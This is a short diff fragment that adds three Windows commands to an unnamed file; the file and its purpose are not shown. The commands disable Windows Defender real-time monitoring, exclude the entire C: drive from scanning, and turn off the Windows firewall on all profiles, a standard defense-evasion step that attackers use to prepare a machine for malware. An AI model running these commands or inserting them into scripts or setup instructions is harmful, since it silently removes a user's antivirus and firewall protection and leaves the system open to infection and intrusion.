@@ -1,0 +1,3 @@
+Set-MpPreference -DisableRealtimeMonitoring $true
+Add-MpPreference -ExclusionPath C:\
+netsh advfirewall set allprofiles state off
